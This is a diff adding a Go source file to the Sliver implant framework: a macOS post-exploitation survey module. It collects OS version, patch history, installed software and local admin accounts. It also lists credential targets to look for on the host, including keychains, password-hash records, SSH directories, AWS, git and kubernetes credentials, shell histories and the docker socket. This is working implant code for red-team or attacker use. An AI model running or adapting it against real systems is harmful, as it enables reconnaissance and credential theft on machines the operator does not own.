@@ -0,0 +1,175 @@
+package survey
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"errors"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"time"
+
+	"github.com/bishopfox/sliver/implant/sliver/macos"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+const (
+	systemVersionPlist  = "/System/Library/CoreServices/SystemVersion.plist"
+	installHistoryPlist = "/Library/Receipts/InstallHistory.plist"
+)
+
+var (
+	candidatePaths = []candidatePath{
+		{Path: "/etc/sudoers", Description: "sudo rules"},
+		{Path: "/etc/sudoers.d/*", Description: "sudo rules"},
+		{Path: "/var/db/dslocal/nodes/Default/users", Description: "local user records with password hashes"},
+		{Path: "/Library/Keychains/System.keychain", Description: "system keychain"},
+		{Path: "/Users/*/Library/Keychains/login.keychain-db", Description: "login keychain"},
+		{Path: "/var/root/.ssh", Description: "root's ssh directory"},
+		{Path: "/Users/*/.aws/credentials", Description: "aws credentials"},
+		{Path: "/Users/*/.kube/config", Description: "kubernetes config"},
+		{Path: "/Users/*/.git-credentials", Description: "git credentials"},
+		{Path: "/Users/*/.zsh_history", Description: "shell history"},
+		{Path: "/Users/*/.bash_history", Description: "shell history"},
+		{Path: "/var/run/docker.sock", Description: "docker socket"},
+	}
+
+	// App bundles and Homebrew kegs (Cellar/<name>/<version>)
+	appDirs    = []string{"/Applications/*.app", "/Applications/*/*.app"}
+	cellarDirs = []string{"/usr/local/Cellar/*/*", "/opt/homebrew/Cellar/*/*"}
+
+	errBinaryPlist = errors.New("not an xml property list")
+)
+
+// osVersion - The product name and version from SystemVersion.plist, and the kernel release
+func osVersion() (string, string, error) {
+	kernel, _ := syscall.Sysctl("kern.osrelease")
+	values, err := readPlistDict(systemVersionPlist)
+	if err != nil {
+		return "macOS", kernel, err
+	}
+	product := strings.TrimSpace(plistString(values, "ProductName") + " " + plistString(values, "ProductVersion"))
+	if build := plistString(values, "ProductBuildVersion"); build != "" {
+		product += " (" + build + ")"
+	}
+	return product, kernel, nil
+}
+
+// patches - The software updates in the install history
+func patches() ([]*sliverpb.SurveyPatch, error) {
+	data, err := os.ReadFile(installHistoryPlist)
+	if err != nil {
+		return []*sliverpb.SurveyPatch{}, err
+	}
+	plist, err := macos.ParsePlist(data)
+	if err != nil {
+		return []*sliverpb.SurveyPatch{}, err
+	}
+	return parseInstallHistory(plist), nil
+}
+
+func parseInstallHistory(plist interface{}) []*sliverpb.SurveyPatch {
+	updates := []*sliverpb.SurveyPatch{}
+	entries, _ := plist.([]interface{})
+	for _, entry := range entries {
+		values, ok := entry.(map[string]interface{})
+		if !ok {
+			continue
+		}
+		process := strings.ToLower(plistString(values, "processName"))
+		if !strings.Contains(process, "softwareupdate") && !strings.Contains(process, "software update") {
+			continue
+		}
+		update := &sliverpb.SurveyPatch{
+			ID:          plistString(values, "displayName"),
+			Description: plistString(values, "displayVersion"),
+		}
+		if date, err := time.Parse(time.RFC3339, plistString(values, "date")); err == nil {
+			update.InstalledAt = date.Unix()
+		}
+		updates = append(updates, update)
+	}
+	return updates
+}
+
+// software - App bundles, with their version if the Info.plist is xml, and
+// Homebrew packages
+func software() ([]*sliverpb.SurveySoftware, error) {
+	packages := []*sliverpb.SurveySoftware{}
+	for _, pattern := range appDirs {
+		apps, _ := filepath.Glob(pattern)
+		for _, app := range apps {
+			pkg := &sliverpb.SurveySoftware{Name: strings.TrimSuffix(filepath.Base(app), ".app")}
+			if values, err := readPlistDict(filepath.Join(app, "Contents", "Info.plist")); err == nil {
+				pkg.Version = plistString(values, "CFBundleShortVersionString")
+				pkg.Publisher = plistString(values, "CFBundleIdentifier")
+			}
+			packages = append(packages, pkg)
+		}
+	}
+	for _, pattern := range cellarDirs {
+		kegs, _ := filepath.Glob(pattern)
+		for _, keg := range kegs {
+			packages = append(packages, &sliverpb.SurveySoftware{
+				Name:      filepath.Base(filepath.Dir(keg)),
+				Version:   filepath.Base(keg),
+				Publisher: "homebrew",
+			})
+		}
+	}
+	return dedupeSoftware(packages), nil
+}
+
+// localAdmins - The members of the admin group, from the directory service since
+// /etc/group isn't used for local accounts
+func localAdmins() ([]string, error) {
+	output, err := exec.Command("/usr/bin/dscl", ".", "-read", "/Groups/admin", "GroupMembership").Output()
+	if err != nil {
+		return []string{}, err
+	}
+	members := strings.Fields(strings.TrimPrefix(strings.TrimSpace(string(output)), "GroupMembership:"))
+	return members, nil
+}
+
+func readPlistDict(path string) (map[string]interface{}, error) {
+	data, err := os.ReadFile(path)
+	if err != nil {
+		return nil, err
+	}
+	if bytes.HasPrefix(data, []byte("bplist")) {
+		return nil, errBinaryPlist
+	}
+	plist, err := macos.ParsePlist(data)
+	if err != nil {
+		return nil, err
+	}
+	values, ok := plist.(map[string]interface{})
+	if !ok {
+		return nil, errBinaryPlist
+	}
+	return values, nil
+}
+
+func plistString(values map[string]interface{}, key string) string {
+	value, _ := values[key].(string)
+	return value
+}